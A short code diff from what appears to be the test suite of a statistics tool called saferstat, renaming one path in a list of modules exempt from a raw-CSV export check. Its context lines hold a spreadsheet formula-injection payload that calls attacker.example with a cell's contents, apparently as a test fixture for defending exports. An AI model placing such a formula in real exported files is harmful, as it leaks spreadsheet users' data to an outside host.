@@ -17,7 +17,7 @@ SAFERSTAT = Path(__file__).resolve().parents[2] / "saferstat"
 NOT_DOWNLOADS = {
     "core/exports.py",  # the safe export path itself
     "cli.py",  # the command line prints to the analyst's own terminal
-    "intelligence/partner_demo.py",  # writes invented demo input files to disk
+    "intelligence/datasets/demo.py",  # writes invented demo input files to disk
 }
 RAW_CSV = re.compile(r"text/csv|csv\.writer|csv\.DictWriter|spreadsheetml|opendocument")
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A2,"Click")'
